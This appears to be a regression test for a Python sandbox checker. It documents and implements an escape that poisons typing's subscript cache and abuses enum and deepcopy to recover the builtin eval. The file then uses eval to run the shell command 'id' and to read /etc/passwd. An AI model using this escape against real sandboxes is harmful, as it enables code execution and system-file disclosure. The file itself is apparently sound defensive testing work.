# expect: reject class_value
# line: 30
# why: round 51b: typing caches subscripts by equality, so Annotated[int, 0] as a base answered the Annotated[Quantity, 0] a tuple subclass equal to (int, 0) had left under that key
# ok_01 -- goal level 1 (runs `id`, prints /etc/passwd), via level 2 (the real builtin eval).
# Mechanism: typing's lru cache answers a base by equality, not by the text the checker reads.
#   typing.Annotated.__class_getitem__ is wrapped in typing._tp_cache (functools.lru_cache,
#   untyped). `typing.Annotated[Pair((int, 0))]` hands it a tuple subclass EQUAL to (int, 0)
#   (tuple's own __eq__/__hash__) whose __getitem__(0) answers the program class Quantity: the
#   result Annotated[Quantity, 0] is cached under the key (Annotated, (int, 0)). Later the base
#   `typing.Annotated[int, 0]` -- every item a builtin or a literal -- is a cache hit and IS
#   Annotated[Quantity, 0], whose __mro_entries__ puts Quantity among Cup's bases next to
#   enum.Flag. type(self) in Quantity.__call__ is then the enum class Cup, whose call with two
#   arguments is enum's functional API building a class from a mapping (rest as round 50b).
# Why missed: names.c base_kind() -> BASE_LIB for a subscript of a module path when
#   classes.c wk_alias_items_named() finds every item "named" (builtin int, literal 0): the
#   round-50b fix judges the items by their text, but typing's subscription is a cached
#   function whose answer the program chose earlier (cache keyed by ==/hash, which a tuple
#   subclass satisfies while carrying other items). closed_family() therefore sees no edge
#   Cup -> Quantity. The same holds for classes.c named_base()/closed_class. Any library
#   subscript behind a cache (typing._tp_cache for Union/Optional/Literal/List[...]/Generic
#   [...], functools.lru_cache) has the same property.
import copy
import enum
import operator
import typing


class Quantity:
    def __call__(self, *a):
        return type(self)(*a)


class Pair(tuple):
    def __getitem__(self, i):
        if i == 0:
            return Quantity
        return tuple(self)[i]


print(typing.Annotated[Pair((int, 0))])


class Cup(typing.Annotated[int, 0], enum.Flag):
    pass


def red(self, proto):
    return (operator.getitem, (typing.Literal, "eval"), {"_name": "__builtins__"})


c = Cup(0)
Made = c("Made", {"A": 1, "__deepcopy__": None, "__reduce_ex__": red})
ev = copy.deepcopy(copy.deepcopy(Made.A))
print("got:", ev)
ev("__import__('os').system('id')")
print(ev("open('/etc/passwd').read()")[:80])
